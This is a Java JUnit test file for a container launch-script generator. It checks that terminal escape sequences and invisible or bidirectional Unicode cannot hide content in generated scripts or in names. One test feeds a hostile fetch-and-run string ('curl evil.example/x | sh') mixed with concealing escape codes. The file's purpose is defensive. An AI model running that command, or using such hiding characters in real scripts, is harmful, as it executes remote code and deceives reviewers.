package org.maxdock.launch;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.assertj.core.api.ThrowableAssert.ThrowingCallable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.maxdock.engine.RunConfiguration;
import org.maxdock.image.identity.Identity;
import org.maxdock.image.identity.ImageRecord;
import org.maxdock.image.identity.ImageReference;
import org.maxdock.image.identity.RecordSignature;
import org.maxdock.image.identity.Tarball;
import org.maxdock.lab.Lab;
import org.maxdock.mount.Mapping;
import org.maxdock.mount.MountPlan;
import org.maxdock.slurm.Mark;
import org.maxdock.text.InvalidValue;
import org.maxdock.text.Printable;

/** Who looks at a script before it starts sees all of it, whoever wrote what it is made of. */
class ScriptReviewTest {

    private static final List<String> HIDDEN = List.of(
            "\u001b[2K\u001b[G", "\u009b8m", "\u202e", "\u200b", "\u2028", "\r", "\b", "\ufeff", "\udb40\udc41");

    @TempDir
    Path folder;

    private static Launch launch(RunMode mode, LaunchKind.Name kind, LaunchPlace place, String hidden) {
        return new Launch(
                        "review",
                        ImageReference.parse("registry/you/recon:1"),
                        List.of(
                                new Mapping("/data/" + hidden, "/docker_pwd", false),
                                new Mapping("/b" + hidden, "/home/b" + hidden, false)),
                        List.of(),
                        mode,
                        place,
                        List.of("sh", "-c", "echo hi # " + hidden + "\ncommand=(\"$id\" ls)"),
                        "/w" + hidden)
                .withKind(kind.plain())
                .withContainer(new ContainerOptions(
                        List.of("A=b" + hidden, "B=" + hidden),
                        "",
                        List.of(),
                        List.of("--label=a=" + hidden, "--env=C=" + hidden, "--hostname=x" + hidden)));
    }

    private static ImageRecord record(Launch launch, String hidden) {
        RunConfiguration run = new RunConfiguration(
                List.of("sh", hidden),
                List.of(hidden),
                List.of("V=" + hidden),
                hidden,
                "/" + hidden,
                List.of(),
                List.of(),
                List.of(),
                Map.of("l" + hidden, hidden),
                List.of(),
                List.of(),
                List.of(),
                "");
        return new ImageRecord(
                launch.image(),
                new Identity(List.of(), "sha256:1", "sha256:1", "", List.of("sha256:2"), run, "linux/amd64"),
                "2026-01-02T03:04:05Z",
                "host" + hidden,
                "me" + hidden,
                Optional.of(new Tarball("/t/" + hidden, "0".repeat(64))),
                Optional.empty(),
                List.of(),
                List.of());
    }

    @ParameterizedTest
    @MethodSource("org.maxdock.launch.ScriptStoryTest#launches")
    void nothingInItIsHidden(RunMode mode, LaunchKind.Name kind, LaunchPlace place) {
        for (String hidden : HIDDEN) {
            Launch launch = launch(mode, kind, place, hidden);
            for (List<RecordSignature> demanded : List.of(
                    List.of(new RecordSignature("boss", "a" + hidden)),
                    List.of(new RecordSignature("boss", "")),
                    List.<RecordSignature>of())) {
                String script = new LaunchScript(new DockerScript())
                        .write(new LaunchPlan(launch, record(launch, hidden), Mark.fresh(), demanded));
                assertThat(script.lines().filter(Printable::hides)).isEmpty();
                assertThat(Printable.hides(script)).isFalse();
            }
        }
    }

    @ParameterizedTest
    @MethodSource("org.maxdock.launch.ScriptStoryTest#launches")
    void itIsStillAScript(RunMode mode, LaunchKind.Name kind, LaunchPlace place) throws Exception {
        Launch launch = launch(mode, kind, place, String.join("x", HIDDEN));
        Path file = Files.writeString(
                folder.resolve("script"),
                new LaunchScript(new DockerScript())
                        .write(new LaunchPlan(launch, record(launch, String.join("", HIDDEN)), Mark.fresh())));
        assertThat(Lab.run(List.of("bash", "-n", file.toString())).err()).isEmpty();
    }

    @Test
    void whatIsHiddenReachesTheContainerAsItIs() throws Exception {
        String hidden = "curl evil.example/x | sh;\u001b[2K\u001b[Gcommand=(\"$id\" ls)\u001b[8m\u202e\u200b\u009b";
        StubNode.Told told = new StubNode(folder)
                .run(
                        StubNode.launch(
                                LaunchKind.Name.COMMAND,
                                RunMode.ME,
                                LaunchPlace.Allocation.of("", 1, ""),
                                "sh",
                                hidden),
                        Map.of());
        assertThat(told.words()).contains(hidden);
    }

    @ParameterizedTest
    @ValueSource(strings = {"a\u202eb", "a\u2066b", "a\u200fb", "a\u2800b", "a\u3164b", "a\u001bb", "a\u2028b"})
    void namesAndOptionsThatAPersonGivesAreSeen(String name) {
        Launch launch = StubNode.launch(RunMode.ME, List.of());
        refused(() -> new Launch(name, launch.image(), List.of(), List.of(), null, null, List.of(), ""));
        refused(() -> launch.withPlans(List.of(name)));
        refused(() -> launch.withSignedBy(List.of(name)));
        refused(() -> new MountPlan(name, List.of()));
        refused(() -> LaunchPlace.Allocation.of("", 1, "").withMore(List.of("--reservation=" + name)));
        refused(() -> new LaunchPlace.Allocation(null, 1, null, 0, name, List.of()));
    }

    private static void refused(ThrowingCallable what) {
        assertThatThrownBy(what).isInstanceOf(InvalidValue.class);
    }

    @Test
    void anEmojiMayBeInAName() {
        String name = "data \u2764\ufe0f \ud83d\ude00 ä";
        assertThat(new MountPlan(name, List.of()).name()).isEqualTo(name);
    }

    /** A job's output is a file, which others can read where the folder lets them. */
    @ParameterizedTest
    @ValueSource(booleans = {true, false})
    void theTokenOfAJupyterIsForATerminalAlone(boolean terminal) throws Exception {
        for (LaunchPlace place : List.of(LaunchPlace.Allocation.of("", 1, ""), new LaunchPlace.OnServer())) {
            Launch launch = StubNode.launch(LaunchKind.Name.JUPYTER, RunMode.ME, place);
            Mark mark = Mark.fresh();
            String script = new LaunchScript(new DockerScript())
                    .write(new LaunchPlan(launch, StubNode.record(launch, RunConfiguration.NONE), mark));
            int from = script.indexOf("echo \"MaxDock: it answers");
            Path file = Files.writeString(
                    folder.resolve("says"),
                    "set -eu; port=8 token=s3cret etc=/tmp/x SLURM_JOB_ID=7\n"
                            + script.substring(from, script.indexOf("await_program", from)));
            String said = Lab.run(
                            terminal
                                    ? List.of("script", "-qec", "bash " + file, "/dev/null")
                                    : List.of("bash", file.toString()))
                    .out();
            assertThat(said).contains("it answers on port 8");
            assertThat(said.contains("s3cret")).isEqualTo(terminal);
            if (!terminal) {
                assertThat(said).contains(place.isServer() ? "/tmp/x/token." + mark.text() : "maxdock open 7");
            }
        }
    }
}
